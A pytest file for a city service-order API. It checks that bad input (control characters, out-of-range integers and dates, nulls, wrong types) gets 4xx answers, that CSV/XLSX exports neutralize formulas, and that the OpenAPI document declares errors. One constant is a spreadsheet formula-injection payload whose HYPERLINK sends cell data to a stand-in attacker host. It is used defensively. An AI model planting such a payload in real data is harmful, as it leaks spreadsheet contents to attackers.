"""Bad input is a 4xx, always (issue 25, items 4 and 7): each probe here answered 500, or wrote a live formula.

One rule at the edge (infra/edge.py) refuses control characters in parameters and body text; the schemas'
types bound integers to 64 bits and dates to 1900..2200; exports write formula-like text as text
(infra/spreadsheet.py); the OpenAPI document states all of it (app/openapi.py).
"""

from __future__ import annotations

import base64
import csv
import io
import json

import httpx
import pytest
from openpyxl import load_workbook

from tests.orders_helpers import ADMIN, CITY, DISPATCHER, OPERATOR, SUPERVISOR, register

CITIES = (CITY,)
ORDERS = f"/api/v1/tenants/{CITY}/orders"
UNITS = f"/api/v1/tenants/{CITY}/units"
BEYOND_INT64 = 2**63
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'


def refused(response: httpx.Response, field: str, status: int = 422) -> bool:
    """The answer is ``status`` in the error shape, and names ``field``."""
    body = response.json()
    return (response.status_code == status and {"error", "detail"} <= body.keys()
            and field in [f["field"] for f in body.get("fields", [])])


@pytest.fixture(scope="module")
async def unit(client: httpx.AsyncClient) -> dict:
    response = await client.post(UNITS, headers=ADMIN, json={"code": "probe", "name": "探测单位", "kind": "department"})
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture(scope="module")
async def order(client: httpx.AsyncClient) -> dict:
    return await register(client, title=INJECTION, address="+86 淇滨区", content="-1+1 楼顶漏水\n第二行\t缩进")


# --- control characters -------------------------------------------------------------------------------------

@pytest.mark.parametrize("param", ["q", "phone", "category", "status", "number"])
async def test_a_nul_byte_in_an_order_filter_is_a_422_naming_it(client: httpx.AsyncClient, param: str) -> None:
    response = await client.get(ORDERS, params={param: "41\x0006"}, headers=OPERATOR)
    assert refused(response, param), response.text


async def test_a_nul_byte_in_an_order_number_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.get(f"{ORDERS}/4106%00X", headers=OPERATOR)
    assert refused(response, "number"), response.text


async def test_a_nul_byte_in_a_unit_name_is_a_422_and_no_unit_is_made(client: httpx.AsyncClient) -> None:
    response = await client.post(UNITS, headers=ADMIN, json={"code": "nul", "name": "水\x00务", "kind": "department"})
    assert refused(response, "name"), response.text
    listing = await client.get(UNITS, headers=ADMIN, params={"include_inactive": True})
    assert "nul" not in [u["code"] for u in listing.json()]


async def test_a_control_character_deep_in_a_body_is_named_by_its_path(client: httpx.AsyncClient) -> None:
    response = await client.post(ORDERS, headers=OPERATOR, json={
        "channel": "phone", "type": "complaint", "category": "0101", "title": "t", "content": "c",
        "citizen": {"name": "王\x07五", "phone": "13903920001"}})
    assert refused(response, "citizen.name"), response.text


async def test_lines_and_tabs_in_free_text_are_kept(order: dict, client: httpx.AsyncClient) -> None:
    response = await client.get(f"{ORDERS}/{order['number']}", headers=OPERATOR)
    assert response.json()["content"] == "-1+1 楼顶漏水\n第二行\t缩进"


async def test_a_control_character_in_a_username_to_disable_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.post(f"/api/v1/tenants/{CITY}/users/bob%01/disable", headers=ADMIN)
    assert refused(response, "username"), response.text


async def test_a_nul_byte_in_the_public_lookup_phone_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.get(f"/api/v1/public/orders/{CITY}-ABC", params={"phone": "1390392\x000001"})
    assert refused(response, "phone"), response.text


# --- integers and dates out of range ------------------------------------------------------------------------

async def test_a_unit_filter_beyond_int64_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.get(ORDERS, params={"unit": BEYOND_INT64}, headers=OPERATOR)
    assert refused(response, "unit"), response.text


async def test_a_unit_id_beyond_int64_in_a_path_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.patch(f"{UNITS}/{BEYOND_INT64}", headers=ADMIN, json={"name": "x"})
    assert refused(response, "unit_id"), response.text


async def test_a_dispatch_to_a_unit_beyond_int64_is_a_422(client: httpx.AsyncClient, order: dict) -> None:
    response = await client.post(f"{ORDERS}/{order['number']}/dispatch", headers=DISPATCHER,
                                 json={"to": BEYOND_INT64})
    assert response.status_code == 422, response.text


def forged_cursor(value: str | None, last_id: int) -> str:
    return base64.urlsafe_b64encode(json.dumps(["-created_at", value, last_id]).encode()).decode().rstrip("=")


async def test_a_cursor_with_an_id_beyond_int64_is_refused(client: httpx.AsyncClient) -> None:
    response = await client.get(ORDERS, params={"cursor": forged_cursor("2026-11-02T09:00:00+08:00", BEYOND_INT64)},
                                headers=OPERATOR)
    assert refused(response, "cursor", status=400), response.text


async def test_a_cursor_in_year_one_is_refused(client: httpx.AsyncClient) -> None:
    response = await client.get(ORDERS, params={"cursor": forged_cursor("0001-01-01T00:00:00+08:00", 1)},
                                headers=OPERATOR)
    assert refused(response, "cursor", status=400), response.text


@pytest.mark.parametrize("param", ["created_from", "created_to", "deadline_from", "deadline_to"])
async def test_a_year_one_date_filter_is_a_422(client: httpx.AsyncClient, param: str) -> None:
    response = await client.get(ORDERS, params={param: "0001-01-01T00:00:00+08:00"}, headers=OPERATOR)
    assert refused(response, param), response.text


async def test_a_statistics_range_in_year_one_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.get(f"/api/v1/tenants/{CITY}/statistics", headers=SUPERVISOR,
                                params={"by": "day", "from": "0001-01-01", "to": "0001-01-02"})
    assert refused(response, "from"), response.text


# --- nulls where a value is required ------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["name", "active"])
async def test_null_for_a_not_null_unit_field_is_a_422_and_changes_nothing(
        client: httpx.AsyncClient, unit: dict, field: str) -> None:
    response = await client.patch(f"{UNITS}/{unit['id']}", headers=ADMIN, json={field: None, "phone": "0392-1"})
    assert refused(response, field), response.text
    listing = await client.get(UNITS, headers=ADMIN, params={"include_inactive": True})
    now = next(u for u in listing.json() if u["id"] == unit["id"])
    assert (now["name"], now["active"], now["phone"]) == (unit["name"], unit["active"], unit["phone"])


async def test_a_unit_phone_may_still_be_cleared_with_null(client: httpx.AsyncClient) -> None:
    made = await client.post(UNITS, headers=ADMIN, json={"code": "phoned", "name": "有电话", "kind": "department",
                                                         "phone": "0392-2"})
    response = await client.patch(f"{UNITS}/{made.json()['id']}", headers=ADMIN, json={"phone": None})
    assert response.status_code == 200 and response.json()["phone"] is None, response.text


# --- exports: formula injection -----------------------------------------------------------------------------

async def test_the_csv_export_writes_formula_like_text_behind_an_apostrophe(
        client: httpx.AsyncClient, order: dict) -> None:
    response = await client.get(ORDERS, params={"format": "csv", "number": order["number"]}, headers=OPERATOR)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["title"] for r in rows] == [f"'{INJECTION}"]
    assert rows[0]["address"] == "'+86 淇滨区"


async def test_the_xlsx_export_holds_formula_like_text_as_text(client: httpx.AsyncClient, order: dict) -> None:
    response = await client.get(ORDERS, params={"format": "xlsx", "number": order["number"]},
                                headers=OPERATOR)
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet[2][header.index("title")]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (INJECTION, "s", True)
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


async def test_the_assessment_exports_hold_a_formula_like_unit_name_as_text(client: httpx.AsyncClient) -> None:
    made = await client.post(UNITS, headers=ADMIN, json={"code": "evil", "name": INJECTION, "kind": "department"})
    assert made.status_code == 201, made.text
    params = {"period": "2026-11"}
    table = await client.get(f"/api/v1/tenants/{CITY}/assessment/indicators.csv", params=params, headers=SUPERVISOR)
    names = [r["name"] for r in csv.DictReader(io.StringIO(table.content.decode("utf-8-sig")))]
    assert f"'{INJECTION}" in names and INJECTION not in names
    book = await client.get(f"/api/v1/tenants/{CITY}/assessment/report.xlsx", params=params, headers=SUPERVISOR)
    cells = [c for sheet in load_workbook(io.BytesIO(book.content)).worksheets
             for line in sheet.iter_rows() for c in line]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == INJECTION and c.data_type == "s" for c in cells)


# --- the OpenAPI document -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
async def document(client: httpx.AsyncClient) -> dict:
    return (await client.get("/openapi.json")).json()


def operations(document: dict) -> list[tuple[str, str, dict]]:
    return [(path, method, op) for path, item in document["paths"].items() for method, op in item.items()]


async def test_every_error_an_api_operation_answers_is_declared_with_the_error_body(document: dict) -> None:
    ref = {"$ref": "#/components/schemas/ErrorBody"}
    for path, method, op in operations(document):
        if not path.startswith("/api/"):
            continue
        wanted = {"400", "404", "422", "503"} | ({"401", "403"} if op.get("security") else set())
        assert wanted <= op["responses"].keys(), (method, path)
        for status in wanted:
            assert op["responses"][status]["content"]["application/json"]["schema"] == ref, (method, path, status)


async def test_every_declared_429_and_503_says_when_to_retry(document: dict) -> None:
    declared = [op["responses"][status] for _, _, op in operations(document) for status in ("429", "503")
                if status in op["responses"]]
    assert declared and all(entry["headers"]["Retry-After"]["required"] for entry in declared)


async def test_the_declared_422_is_the_body_actually_sent(document: dict) -> None:
    assert "HTTPValidationError" not in document["components"]["schemas"]
    assert {"error", "detail", "fields"} <= document["components"]["schemas"]["ErrorBody"]["properties"].keys()


async def test_the_tenant_code_in_paths_carries_the_gbt2260_pattern(document: dict) -> None:
    codes = [p for _, _, op in operations(document) for p in op.get("parameters", [])
             if p["name"] == "code" and p["in"] == "path"]
    assert codes and all(p["schema"]["pattern"] == r"^[1-9][0-9](?:[0-9]{2}(?:[0-9]{2}(?:[0-9]{3})?)?)?$"
                         for p in codes)


async def test_ids_are_declared_as_64_bit(document: dict) -> None:
    unit_id = next(p for p in document["paths"]["/api/v1/tenants/{code}/units/{unit_id}"]["patch"]["parameters"]
                   if p["name"] == "unit_id")
    assert unit_id["schema"]["maximum"] == 2**63 - 1


# --- what the attack suite found (tests/test_attack_api.py) ---------------------------------------------------

async def test_a_405_allows_every_method_of_the_path(client: httpx.AsyncClient) -> None:
    response = await client.request("OPTIONS", UNITS, headers=ADMIN)
    assert response.status_code == 405 and response.headers["allow"] == "GET, POST"


async def test_a_number_for_a_boolean_in_a_body_is_a_422(client: httpx.AsyncClient, unit: dict) -> None:
    response = await client.patch(f"{UNITS}/{unit['id']}", headers=ADMIN, json={"active": 0})
    assert refused(response, "active"), response.text


async def test_a_boolean_for_a_number_in_a_body_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.put(f"/api/v1/tenants/{CITY}/overdue-policy", headers=ADMIN,
                                json={"urge_after_hours": False})
    assert refused(response, "urge_after_hours"), response.text


async def test_a_number_for_a_date_filter_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.get(ORDERS, params={"deadline_to": "0.5"}, headers=OPERATOR)
    assert refused(response, "deadline_to"), response.text


async def test_bounds_of_optional_numbers_are_stated_in_json_schema_terms(document: dict) -> None:
    text = json.dumps(document)
    assert '"ge":' not in text and '"le":' not in text  # pydantic's names, which no client understands
